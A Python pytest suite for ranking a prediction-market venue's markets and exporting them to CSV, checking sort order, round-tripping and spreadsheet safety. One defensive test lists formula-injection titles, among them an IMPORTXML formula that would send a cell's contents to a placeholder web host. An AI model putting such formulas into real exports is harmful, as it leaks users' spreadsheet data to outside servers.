"""Ranking the venue's markets, and the list that is written of them: what is read back is what was found."""

import asyncio
import csv
import io
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from core.config import Settings
from core.selection.discover import Candidate, list_text, ranked
from core.selection.files import FileProvider
from core.selection.listed import COLUMNS, OPTIONAL_COLUMNS, Figures, ListRow, MarketList
from core.selection.rows import checked
from core.selection.screen import UsedFigures, screened
from core.text import cleaned
from tests.builders import laws
from tests.core.selection.sources import NOW, a_gamma, a_source, an_item

FIGURES = Figures(40_000.0, 50_000.0, 300_000.0, 750_000.0)


def a_candidate(number: int = 1, title: str = "Will it?", figures: Figures = FIGURES, **over: Any) -> Candidate:
    """A market of its own name and tokens."""
    market, yes, no = f"0x{number:064x}", str(10**76 + 2 * number + 1), str(10**76 + 2 * number + 2)
    item = an_item(market=market, yes=yes, no=no, title=title)
    source = a_source(a_gamma(item))
    source = replace(source, row=ListRow(number, market, yes, no, figures), **over)
    return Candidate(source, figures, screened(source, UsedFigures(figures, "Gamma's"), None, Settings(), NOW))


def read_back(path: Path) -> MarketList:
    return asyncio.run(FileProvider(path, Settings(), ()).read())


# The order


def test_the_best_income_for_each_dollar_at_risk_comes_first() -> None:
    poor = a_candidate(1, figures=replace(FIGURES, volume_24h=20_000.0))
    rich = a_candidate(2, figures=replace(FIGURES, liquidity=10_000.0))
    assert rich.screening.income is not None and poor.screening.income is not None
    assert rich.screening.income.frac > poor.screening.income.frac
    assert rich.screening.score < poor.screening.score, "the seed's score would have it the other way"
    assert ranked([poor, rich]) == [rich, poor]


def test_what_fails_or_is_refused_comes_last() -> None:
    fine = a_candidate(1, figures=replace(FIGURES, volume_24h=1_000.0))
    failed = a_candidate(2, figures=replace(FIGURES, volume_30d=3e6))
    refused = a_candidate(3, refusals=("the CLOB takes no orders here",))
    late = a_candidate(4, lags=("tick 0.01 by Gamma, 0.001 by the CLOB",))
    assert ranked([refused, failed, late, fine])[0] is fine
    assert [bool(each.against) for each in (fine, failed, refused, late)] == [False, True, True, True]
    assert "trend 0.1000, wanted at least 0.3000" in failed.against


def test_equal_markets_have_one_order_whatever_the_venue_sends_first() -> None:
    some = [a_candidate(number) for number in range(5)]
    assert ranked(some) == ranked(some[::-1])


def test_a_market_without_an_estimate_comes_after_those_with_one() -> None:
    unknown = a_candidate(1, market=a_gamma(mid=None))
    blind = Candidate(
        unknown.sourced, FIGURES, screened(unknown.sourced, UsedFigures(FIGURES, ""), None, Settings(), NOW)
    )
    assert blind.screening.income is None
    assert ranked([blind, a_candidate(2)])[-1] is blind


# The file


def test_what_is_written_is_read_back_as_it_was_found(tmp_path: Path) -> None:
    found = [a_candidate(number, f"Will {number} happen?") for number in range(1, 30)]
    path = tmp_path / "markets.csv"
    path.write_text(list_text(found), encoding="utf-8")
    told = read_back(path)
    assert not told.rejected and not told.notes
    assert told.rows == tuple(
        replace(each.sourced.row, row=number, note=each.title) for number, each in enumerate(found, 2)
    )


def test_the_columns_are_those_of_every_list() -> None:
    header, row = csv.reader(io.StringIO(list_text([a_candidate()])))
    assert tuple(header) == (*COLUMNS, *OPTIONAL_COLUMNS)
    assert row[0] == "0x" + "0" * 63 + "1" and row[7:10] == ["yes", "", ""]


def test_a_spreadsheet_makes_no_number_of_an_id() -> None:
    """A cell that begins with an apostrophe is text; without it 77 digits become 1.0E+76 (reliability.md D12)."""
    _, row = csv.reader(io.StringIO(list_text([a_candidate()])))
    assert row[1] == f"'{10**76 + 3}" and row[2] == f"'{10**76 + 4}"


@pytest.mark.parametrize(
    "title", ['=IMPORTXML(CONCAT("http://a/?v=",A1),"//a")', "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1", "\n=1", "'=1"]
)
def test_no_title_becomes_a_formula(title: str) -> None:
    """reliability.md M05."""
    for row in list(csv.reader(io.StringIO(list_text([a_candidate(title=title)]))))[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
        assert row[-1].startswith("'")


@laws(300)
@given(
    st.lists(
        st.tuples(
            st.text(st.characters(), max_size=400),
            st.tuples(*[st.one_of(st.none(), st.floats(0.0, 1e12)) for _ in range(4)]),
        ),
        min_size=1,
        max_size=5,
    )
)
def test_whatever_the_titles_and_figures_are_the_list_survives(
    told: list[tuple[str, tuple[float | None, ...]]],
) -> None:
    """Commas, quotes, line ends, control characters, lone surrogates, tiny and huge numbers, none at all."""
    found = [a_candidate(n, title, Figures(*figures)) for n, (title, figures) in enumerate(told, 1)]
    text = list_text(found).encode().decode()
    cells = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    read = checked(cells, source="it", kind="file", profiles=(), most_rows=10)
    assert not read.rejected and len(read.rows) == len(found)
    for row, candidate in zip(read.rows, found, strict=True):
        row_wanted = candidate.sourced.row
        assert (row.market, row.yes_token, row.no_token) == (
            row_wanted.market, row_wanted.yes_token, row_wanted.no_token,
        )  # fmt: skip
        wanted = msgspec.structs.astuple(candidate.figures)
        assert row.figures == Figures(*(0.0 if value is not None and value < 0.001 else value for value in wanted))
        assert row.enabled and row.note == cleaned(cleaned(candidate.title))
